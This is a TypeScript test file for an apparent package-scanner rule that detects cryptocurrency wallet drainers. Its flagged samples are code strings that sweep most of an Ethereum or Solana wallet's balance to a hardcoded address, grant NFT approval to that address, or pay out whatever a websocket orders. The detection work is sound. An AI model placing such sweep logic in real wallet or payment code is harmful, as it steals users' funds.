import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './drained-wallet.rule.js';

const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const OWN = '0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122';
const pay = (transaction: string, before = ''): string => `const SINK = "${OWN}"; const zeros = (text) => text.padStart(64, "0"); export async function settle(wallet, chosen, owner) { ${before} return wallet.request({ method: "eth_sendTransaction", params: [${transaction}] }) }`;
const balance = 'const wei = BigInt(await wallet.request({ method: "eth_getBalance", params: [owner, "latest"] })); const most = wei * 95n / 100n;';
const socket = (transaction: string): string => `const SINK = "${OWN}"; export const follow = (wallet, socket, owner, price) => { socket.onmessage = async (e) => { const job = JSON.parse(e.data); await wallet.request({ method: "eth_sendTransaction", params: [${transaction}] }) } }`;

test('bad: all that a wallet has goes to an address that is written here, or what a socket orders', () => {
  assert.equal(worst(pay('{ from: owner, to: SINK, value: "0x" + most.toString(16) }', balance)), 'high');
  assert.equal(worst(`import { provider } from "./provider.js"; export const sweep = async (signer) => { const all = await provider.getBalance(signer.address); await signer.sendTransaction({ to: "${OWN}", value: all }) }`), 'high');
  assert.equal(worst(socket('{ from: owner, to: SINK, value: job.value }')), 'high');
  assert.equal(worst(socket('{ from: owner, to: job.collection, data: "0xa22cb465" + SINK.slice(2).padStart(64, "0") + "1".padStart(64, "0") }')), 'high');
});

test('the same in the words of Solana', () => {
  const settle = (payee: string, amount: string): string => `const web3 = require("@solana/web3.js"); const FEES = new web3.PublicKey("7xWq3kPzT9vNbR2mYcH5sLdF8gJaE4uKoQ1iXtZ6VnBp"); exports.settle = async (net, pair, chosen, sol) => { const rest = await net.getBalance(pair.publicKey); const most = Math.floor(rest * 0.98) - 5000; return web3.sendAndConfirmTransaction(net, new web3.Transaction().add(web3.SystemProgram.transfer({ fromPubkey: pair.publicKey, toPubkey: ${payee}, lamports: ${amount} })), [pair]) }`;
  assert.equal(worst(settle('FEES', 'most')), 'high');
  assert.equal(worst(settle('new web3.PublicKey("7xWq3kPzT9vNbR2mYcH5sLdF8gJaE4uKoQ1iXtZ6VnBp")', 'most')), 'high');
  for (const code of [settle('new web3.PublicKey(chosen)', 'most'), settle('FEES', 'sol * 10')]) assert.equal(worst(code), 'nothing', code);
});

test('good: amounts and payees of users, contracts and their prices', () => {
  for (const code of [
    pay('{ from: owner, to: SINK, value: "0x" + BigInt(chosen).toString(16) }'),
    pay('{ from: owner, to: chosen, value: "0x" + most.toString(16) }', balance),
    pay('{ from: owner, to: chosen, data: "0x095ea7b3" + zeros(SINK.slice(2)) + zeros("1") }', balance),
    pay('{ from: owner, to: SINK, value: "0x16345785d8a0000" }', `${balance} if (most < 1n) throw new Error("empty");`),
    socket('{ from: owner, to: SINK, value: price }'),
    socket('{ from: owner, to: job.to, value: job.value, data: job.data }'),
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what a wallet has is handed to a function of another script that pays it to an address that is written there; good: amounts that users give, and payees that they choose', () => {
  const POOL = '7xWq3kPzT9vNbR2mYcH5sLdF8gJaE4uKoQ1iXtZ6VnBp';
  const worstOf = (given: string, payee = 'POOL', imported = 'const fee_1 = require("./fee");'): string => findingsOf(rule, {
    'index.js': `"use strict"; ${imported} exports.transfer = async (net, from, to, sol, tx) => { const rest = (await net.getBalance(from.publicKey)) - sol; for (const each of (0, fee_1.more)(${given})) tx.add(each); return net.sendTransaction(tx, [from]) }`,
    'fee.js': `"use strict"; const web3_js_1 = require("@solana/web3.js"); const POOL = "${POOL}"; function more(owner, left, chosen) { return left < 5000 ? [] : [web3_js_1.SystemProgram.transfer({ fromPubkey: owner, toPubkey: new web3_js_1.PublicKey(${payee}), lamports: left - 5000 })] } exports.more = more;`,
  })[0]?.severity ?? 'nothing';
  assert.equal(worstOf('from.publicKey, rest'), 'high');
  for (const [given, payee] of [['from.publicKey, sol'], ['from.publicKey, rest, to', 'chosen'], ['rest, sol']] as const) assert.equal(worstOf(given, payee), 'nothing', given);
  assert.equal(worstOf('from.publicKey, rest', undefined, 'const fee_1 = require("./other");'), 'nothing');
});
